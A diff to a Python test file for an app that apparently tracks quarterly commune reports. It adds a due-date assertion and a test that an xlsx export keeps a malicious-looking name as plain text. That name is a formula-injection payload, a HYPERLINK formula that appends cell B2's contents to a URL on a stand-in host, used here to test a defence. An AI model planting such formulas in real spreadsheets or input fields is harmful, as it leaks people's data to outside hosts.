@@ -374,6 +374,8 @@ def test_the_status_list_puts_the_communes_not_submitted_first(client, world, lo
     due = report_due(period)
     assert listed["due_before"] == due.isoformat() and listed["due_at"] == f"{due.isoformat()}T00:00:00+07:00"
     assert listed["days_left"] == (due - local_day(utcnow())).days > 0 and listed["overdue"] is False
+    assert {(c["due_before"], c["days_left"], c["overdue"]) for c in communes} == {
+        (due.isoformat(), listed["days_left"], False)}
 
     # Without a quarter: the one today is in. A commune's own officer reads their commune, not the province.
     own = client.get("/api/v1/reports/quarterly/status", headers=world["officer_headers"]).get_json()
@@ -405,3 +407,14 @@ def test_the_report_is_read_through_the_area(client, world, login):
         assert listed.status_code == status, (role, unit)
     assert _report(client, headers, unit=NGHE_AN).status_code == 422  # a province has no quarterly report here
     assert _report(client, headers, quarter="2026-Q5").status_code == 422
+
+
+def test_the_workbooks_text_is_inert_as_every_export(client, world):
+    """A name typed in the field that Excel would run as a formula stays text, in every sheet (exports.md)."""
+    formula = '=HYPERLINK("http://x/?q="&B2,"Xem")'
+    _visit(client, world, [(make_person(household=world["household"], full_name=formula), ["online_safety"])])
+    answer = _report(client, world["officer_headers"], format="xlsx")
+    book = load_workbook(io.BytesIO(answer.data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert formula in [cell.value for cell in cells]
